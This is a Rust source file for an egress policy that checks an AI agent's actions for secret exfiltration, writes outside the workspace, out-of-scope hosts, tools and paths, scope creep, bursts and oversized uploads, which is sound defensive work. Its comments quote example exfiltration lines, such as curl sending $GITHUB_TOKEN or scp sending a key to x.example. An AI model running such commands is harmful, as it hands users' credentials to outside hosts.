//! The rules: the checks that fill an [`Eval`] from everything an evaluation
//! reads ([`Cx`]) — the network uses and writes of each kind of action,
//! then secret egress and writes outside the workspace, the declared scope
//! (hosts, tools, paths), scope creep, egress bursts and large uploads —
//! and the labels and counters an allowed egress sets.

use crate::eval::Eval;
use crate::hosts::{Dest, bare_host, host_matches, is_local, url_host};
use crate::line;
use crate::phrase::{describe_all, dest_phrase, human, label_phrase, targets};
use crate::scope::Scope;
use crate::settings::{Mode, Settings};
use crate::uses::NetUse;
use clawlaw_sdk::glob::GlobSet;
use clawlaw_sdk::path::{is_within_normalized, normalize};
use clawlaw_sdk::{Action, Decision, Session, Verdict, kinds, shell, workspace};
use std::rc::Rc;

mod served;

/// The label set on egress actions.
pub const EGRESS_LABEL: &str = "egress";
/// The counter of bytes the session sent, as far as the policy could see.
pub const EGRESS_BYTES: &str = "egress_bytes";
/// The gate's counter of earlier actions outside the declared scope.
pub const OUT_OF_SCOPE: &str = "out_of_scope";
/// The gate's counter of distinct hosts the session contacted.
pub const DISTINCT_HOSTS: &str = "distinct_hosts";

pub(crate) const SECRET_EGRESS: &str = "exfil.secret-egress";
pub(crate) const SECRET_WRITE: &str = "exfil.secret-write-outside";
pub(crate) const OOS_HOST: &str = "exfil.out-of-scope-host";
pub(crate) const OOS_TOOL: &str = "exfil.out-of-scope-tool";
pub(crate) const OOS_PATH: &str = "exfil.out-of-scope-path";
pub(crate) const CREEP: &str = "exfil.scope-creep";
pub(crate) const BURST: &str = "exfil.egress-burst";
pub(crate) const LARGE: &str = "exfil.large-upload";
pub(crate) const EGRESS: &str = "exfil.egress";
pub(crate) const UNUSUAL: &str = "exfil.unusual-sink";

/// Everything an evaluation reads.
pub(crate) struct Cx<'a> {
    s: &'a Settings,
    action: &'a Action,
    session: &'a Session,
    cwd: Option<&'a str>,
    home: Option<String>,
    scope: Scope,
    /// The first sensitive label the session carries.
    sensitive: Option<&'a str>,
    network_tools: Rc<GlobSet>,
    readable: Rc<GlobSet>,
}

impl<'a> Cx<'a> {
    /// What evaluating `action` reads. Each fresh instance pays for what it
    /// builds, so only the glob sets this action's kind consults are built;
    /// an error is a setting that no longer builds (`validate` proved both
    /// did).
    pub(crate) fn new(
        s: &'a Settings,
        action: &'a Action,
        session: &'a Session,
    ) -> Result<Cx<'a>, String> {
        let cwd = workspace::cwd(action);
        let home = workspace::home(s.home.as_deref(), cwd);
        let is_file = matches!(
            action.kind.as_str(),
            kinds::FILE_READ | kinds::FILE_WRITE | kinds::FILE_DELETE
        );
        let network_tools = if action.kind == kinds::TOOL_CALL {
            s.tools()?
        } else {
            Rc::default()
        };
        let readable = if is_file {
            s.readable_for(home.clone())?
        } else {
            Rc::default()
        };
        Ok(Cx {
            s,
            action,
            session,
            cwd,
            scope: Scope::of(session, home.as_deref()),
            home,
            sensitive: s
                .sensitive_labels
                .iter()
                .find(|l| session.has_label(l))
                .map(String::as_str),
            network_tools,
            readable,
        })
    }

    pub(crate) fn check_tool_scope(&self, ev: &mut Eval) {
        let tool = self.action.tool.as_str();
        if self.scope.tools.is_empty() || tool.is_empty() || self.scope.tool_in(tool) {
            return;
        }
        let reason = format!(
            "the tool {tool} is not among the session's declared tools ({})",
            self.scope.tools.join(", ")
        );
        ev.leave_scope(OOS_TOOL, reason);
    }

    /// The roots a sensitive session's writes must stay in: the declared
    /// ones, else the working directory.
    fn write_roots(&self) -> Vec<String> {
        if !self.scope.roots.is_empty() {
            return self.scope.roots.clone();
        }
        self.cwd
            .and_then(|c| normalize(c, None, self.home.as_deref()).ok())
            .into_iter()
            .collect()
    }

    /// Why a sensitive write is judged: the label, or the credential file
    /// the command names.
    fn sensitive_cause(&self, credentials: &[(String, &'static str)]) -> Option<String> {
        if let Some(label) = self.sensitive {
            return Some(format!("the session {}", label_phrase(label)));
        }
        credentials
            .first()
            .map(|(path, kind)| format!("the command reads {}", credential_phrase(path, kind)))
    }

    fn secret(&self, mode: Mode, rule: &str, reason: String) -> Decision {
        match mode {
            Mode::Deny => Decision::deny(rule, reason),
            Mode::Escalate => Decision::escalate(rule, reason).with_risk(0.8),
        }
    }

    /// A write of `raw` (as written) by `what`, in a sensitive context.
    fn sensitive_write(&self, ev: &mut Eval, cause: &str, what: &str, raw: &str, dynamic: bool) {
        let mode = self.s.secret_write_outside;
        if dynamic {
            ev.add(self.secret(
                mode,
                SECRET_WRITE,
                format!("{cause} and now {what} {raw}, a path only known at run time"),
            ));
            return;
        }
        let roots = self.write_roots();
        let path = match normalize(raw, self.cwd, self.home.as_deref()) {
            Ok(p) => p,
            Err(e) => {
                ev.add(self.secret(
                    mode,
                    SECRET_WRITE,
                    format!("{cause} and now {what} {raw}, which cannot be resolved ({e})"),
                ));
                return;
            }
        };
        if roots.is_empty() {
            ev.add(self.secret(
                mode,
                SECRET_WRITE,
                format!("{cause} and now {what} {path} with no workspace root known"),
            ));
        } else if !roots.iter().any(|r| is_within_normalized(&path, r)) {
            ev.add(self.secret(
                mode,
                SECRET_WRITE,
                format!(
                    "{cause} and now {what} {path}, outside the workspace ({})",
                    roots.join(", ")
                ),
            ));
        }
    }

    pub(crate) fn file(&self, ev: &mut Eval) {
        let kind = self.action.kind.as_str();
        for raw in workspace::file_paths(self.action, &self.action.input_json()) {
            let path = normalize(&raw, self.cwd, self.home.as_deref());
            if !self.scope.roots.is_empty()
                && let Ok(p) = &path
                && !self.scope.roots.iter().any(|r| is_within_normalized(p, r))
                && !(kind == kinds::FILE_READ && self.readable.any_match(p))
            {
                let reason = format!(
                    "{kind} of {p} is outside the session's declared workspace roots ({})",
                    self.scope.roots.join(", ")
                );
                ev.leave_scope(OOS_PATH, reason);
            }
            if kind == kinds::FILE_WRITE
                && let Some(cause) = self.sensitive_cause(&[])
            {
                self.sensitive_write(ev, &cause, "writes", &raw, false);
            }
        }
    }

    pub(crate) fn shell(&self, ev: &mut Eval) {
        let Some(command) = self
            .action
            .command
            .clone()
            .or_else(|| self.action.input_str("command"))
        else {
            return;
        };
        let line = shell::parse(&command);
        let view = line::analyze(&line, &self.s.network_programs);
        ev.bytes += view.bytes as u64 + self.action.content.as_ref().map_or(0, |c| c.len() as u64);
        for u in view.uses {
            ev.push_use(u);
        }
        ev.credentials = view.credentials;
        ev.sign_ins = view.sign_ins;
        let cause = self.sensitive_cause(&ev.credentials);
        if let Some(cause) = cause {
            for w in &view.writes {
                self.sensitive_write(ev, &cause, "writes", &w.path, w.dynamic);
            }
        }
        self.check_servers(ev, &line);
    }

    pub(crate) fn request(&self, ev: &mut Eval) {
        let a = self.action;
        let url = a
            .target
            .clone()
            .filter(|t| !t.trim().is_empty())
            .or_else(|| a.input_str("url"));
        let dest = url
            .as_deref()
            .and_then(|u| url_host(u).or_else(|| bare_host(u)))
            .map_or(Dest::Unknown, Dest::Host);
        let what = if a.tool.is_empty() {
            "a request".to_string()
        } else {
            format!("a {} request", a.tool)
        };
        ev.bytes += match &a.content {
            Some(c) => c.len() as u64,
            None => {
                let input = a.input_json();
                ["body", "data", "json", "content", "payload"]
                    .iter()
                    .filter_map(|k| input.get(*k))
                    .map(|v| match v {
                        serde_json::Value::String(s) => s.len() as u64,
                        v => v.to_string().len() as u64,
                    })
                    .sum()
            }
        };
        ev.push_use(NetUse::new(&what, dest, true));
    }

    pub(crate) fn tool_call(&self, ev: &mut Eval) {
        let a = self.action;
        if a.tool.is_empty() || !self.network_tools.any_match(&a.tool) {
            return;
        }
        let dest = ["url", "uri", "endpoint"]
            .iter()
            .find_map(|k| a.input_str(k))
            .and_then(|u| url_host(&u).or_else(|| bare_host(&u)))
            .map_or(Dest::Unknown, Dest::Host);
        ev.bytes += a
            .content
            .as_ref()
            .map_or(a.input.len() as u64, |c| c.len() as u64);
        ev.push_use(NetUse::new(&a.tool, dest, true));
    }

    /// A kind this policy does not know: egress when its target is a URL.
    pub(crate) fn unknown_kind(&self, ev: &mut Eval) {
        let a = self.action;
        if let Some(h) = a.target.as_deref().and_then(url_host) {
            ev.bytes += a.content.as_ref().map_or(0, |c| c.len() as u64);
            ev.push_use(NetUse::new(&a.kind, Dest::Host(h), true));
        }
    }

    pub(crate) fn check_uses(&self, ev: &mut Eval) {
        let mut found = Vec::new();
        if !self.scope.hosts.is_empty() {
            let declared = self.scope.hosts.join(", ");
            for u in &ev.uses {
                let verb = if u.egress { "sends to" } else { "contacts" };
                let reason = match &u.dest {
                    Dest::Host(h) if !self.scope.host_in(h) => format!(
                        "{} {verb} {h}, which is not among the session's declared hosts ({declared})",
                        u.what
                    ),
                    Dest::Dynamic => format!(
                        "{} {verb} a host only known at run time, which cannot be checked against the session's declared hosts ({declared})",
                        u.what
                    ),
                    Dest::Unknown if self.action.kind == kinds::NET_REQUEST => format!(
                        "{} names no host, so it cannot be checked against the session's declared hosts ({declared})",
                        u.what
                    ),
                    _ => continue,
                };
                ev.oos_reasons.push(reason.clone());
                found.push(Decision::escalate(OOS_HOST, reason));
            }
        }
        if !found.is_empty() {
            ev.out_of_scope = true;
        }

        let egress: Vec<&NetUse> = ev.egress().collect();
        if !egress.is_empty() {
            found.push(Decision::allow_noting(
                EGRESS,
                format!(
                    "{} sends data off this machine (network egress, noted)",
                    targets(&egress)
                ),
            ));
        }
        for u in &egress {
            // A host the session declared, or the operator trusts, is where
            // this work goes.
            let expected = u.dest.host().is_some_and(|h| {
                (!self.scope.hosts.is_empty() && self.scope.host_in(h))
                    || self.s.trusted_hosts.iter().any(|p| host_matches(p, h))
            });
            if !expected && let Some(why) = crate::sinks::unusual_sink(u) {
                found.push(Decision::escalate(UNUSUAL, format!("{} {why}", u.what)).with_risk(0.7));
            }
        }
        if let Some(label) = self.sensitive {
            let judged: Vec<&NetUse> = egress
                .iter()
                .copied()
                .filter(|u| {
                    !u.dest
                        .host()
                        .is_some_and(|h| self.s.trusted_hosts.iter().any(|p| host_matches(p, h)))
                })
                .collect();
            if !judged.is_empty() {
                found.push(self.secret(
                    self.s.secret_egress,
                    SECRET_EGRESS,
                    format!(
                        "the session {} and now {}",
                        label_phrase(label),
                        describe_all(&judged, "sends data to")
                    ),
                ));
            }
        }
        // Name a host when the line has one (`scp key "$H:" x.example:`).
        let first = egress
            .iter()
            .find(|u| u.dest.host().is_some())
            .or(egress.first());
        // A credential file or printed credential is denied; a variable's
        // value (`-d "key=$API_KEY"`) may be going to the service it is
        // for, so a person decides.
        let file = ev.credentials.iter().find(|(_, k)| *k != "secret-variable");
        // `gh secret set -f .env`: every destination is a service's store
        // for secrets, where credentials are meant to go; a person confirms
        // it is the right one rather than the rule refusing it.
        let to_store = !egress.is_empty() && egress.iter().all(|u| u.secret_store);
        if let (Some((path, kind)), Some(first)) = (file.or(ev.credentials.first()), first) {
            let reason = format!(
                "{} would send {} to {}",
                first.what,
                credential_phrase(path, kind),
                dest_phrase(&first.dest)
            );
            found.push(if to_store {
                Decision::escalate(
                    SECRET_EGRESS,
                    format!("{reason}, a store for secrets: a person confirms it is the one meant"),
                )
                .with_risk(0.6)
            } else if file.is_some() {
                self.secret(self.s.secret_egress, SECRET_EGRESS, reason)
            } else {
                Decision::escalate(SECRET_EGRESS, reason).with_risk(0.8)
            });
        }
        // `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example`:
        // a credential sent to sign in at a host that is not its service's.
        for (var, service) in &ev.sign_ins {
            let elsewhere = ev.uses.iter().find_map(|u| {
                u.dest.host().filter(|h| {
                    !is_local(h)
                        && !self.s.trusted_hosts.iter().any(|p| host_matches(p, h))
                        && !crate::vendors::is_service_host(service, h)
                })
            });
            if let Some(host) = elsewhere {
                found.push(
                    Decision::escalate(
                        SECRET_EGRESS,
                        format!(
                            "the line would send {var}, a {service} credential, to sign in at {host}, which is not {service}'s: whoever runs that host would hold the credential. Send it only to {service}'s own hosts (or add the host to trusted_hosts)"
                        ),
                    )
                    .with_risk(0.8),
                );
                break;
            }
        }
        if !egress.is_empty() && ev.bytes > 0 {
            let to = targets(&egress);
            if ev.bytes > self.s.max_upload_bytes {
                found.push(
                    Decision::escalate(
                        LARGE,
                        format!(
                            "{to} would send {}, more than the {} one action may send",
                            human(ev.bytes),
                            human(self.s.max_upload_bytes)
                        ),
                    )
                    .with_risk(0.6),
                );
            }
            let sent = self.session.counter(EGRESS_BYTES).max(0) as u64;
            if sent.saturating_add(ev.bytes) > self.s.max_session_upload_bytes {
                found.push(
                    Decision::escalate(
                        LARGE,
                        format!(
                            "the session's egress (counter {EGRESS_BYTES}) is already {} and {to} would add {}, past the {} a session may send",
                            human(sent),
                            human(ev.bytes),
                            human(self.s.max_session_upload_bytes)
                        ),
                    )
                    .with_risk(0.6),
                );
            }
        }
        for d in found {
            ev.add(d);
        }
    }

    pub(crate) fn check_creep(&self, ev: &mut Eval) {
        let egress: Vec<&NetUse> = ev.egress().collect();
        if egress.is_empty() && !ev.out_of_scope {
            return;
        }
        let now = match ev.oos_reasons.first() {
            Some(why) => format!("this action leaves it again ({why})"),
            None => format!("now {}", describe_all(&egress, "sends data to")),
        };
        let mut found = Vec::new();
        let left = self.session.counter(OUT_OF_SCOPE);
        if left >= 0 && left as u64 >= self.s.out_of_scope_threshold {
            found.push(
                Decision::escalate(
                    CREEP,
                    format!(
                        "the session already left its declared scope {left} times (threshold {}) and {now}",
                        self.s.out_of_scope_threshold
                    ),
                )
                .with_risk(0.7),
            );
        }
        let hosts = self.session.counter(DISTINCT_HOSTS);
        if hosts > 0 && hosts as u64 > self.s.max_distinct_hosts {
            found.push(
                Decision::escalate(
                    CREEP,
                    format!(
                        "the session already contacted {hosts} distinct hosts (more than {}) and {now}",
                        self.s.max_distinct_hosts
                    ),
                )
                .with_risk(0.7),
            );
        }
        if !egress.is_empty() && self.s.burst_threshold > 0 {
            let recent = &self.session.recent;
            let n = recent
                .iter()
                .filter(|p| {
                    p.kind == kinds::NET_REQUEST || p.labels.iter().any(|l| l == EGRESS_LABEL)
                })
                .count();
            if n >= self.s.burst_threshold {
                found.push(
                    Decision::escalate(
                        BURST,
                        format!(
                            "{n} of the last {} actions were network egress (threshold {}) and this one {}",
                            recent.len(),
                            self.s.burst_threshold,
                            describe_all(&egress, "sends data to")
                        ),
                    )
                    .with_risk(0.6),
                );
            }
        }
        // The composition is the story: its reason replaces a plain
        // scope finding's (same verdict, higher risk), never a denial's.
        let creep_reason = found.first().map(|d| d.reason.clone());
        for d in found {
            ev.add(d);
        }
        if let Some(reason) = creep_reason
            && ev.decision.verdict == Verdict::Escalate
        {
            ev.decision.reason = reason;
        }
    }

    pub(crate) fn finish(&self, ev: Eval) -> Decision {
        let egress = ev.egress().next().is_some();
        let mut d = ev.decision;
        if egress && d.verdict != Verdict::Deny {
            if self.s.label_egress {
                d = d.with_label(EGRESS_LABEL);
            }
            if ev.bytes > 0 {
                d = d.with_counter(EGRESS_BYTES, i64::try_from(ev.bytes).unwrap_or(i64::MAX));
            }
        }
        if d.rules.is_empty() {
            d.reason = if ev.uses.is_empty() {
                format!(
                    "{} sends nothing off this machine and stays within the session's scope",
                    self.action.kind
                )
            } else {
                format!(
                    "{} only fetches (not egress), within the session's scope",
                    targets(&ev.uses.iter().collect::<Vec<_>>())
                )
            };
        }
        d
    }
}

/// A credential as reasons name it: a file (`~/.aws/credentials`) or, for
/// an entry in backquotes, the command that prints one (`` `gh auth token` ``).
fn credential_phrase(entry: &str, kind: &str) -> String {
    if kind == crate::line::ENVIRONMENT {
        format!("the whole environment as {entry} reads it (where API keys and tokens live)")
    } else if entry.starts_with('$') {
        format!("the credential variable {entry} ({kind})")
    } else if entry.starts_with('`') {
        format!("the credential {entry} prints ({kind})")
    } else if kind == crate::holders::HOLDER {
        format!("{entry}, a directory that holds credentials")
    } else {
        format!("the credential file {entry} ({kind})")
    }
}
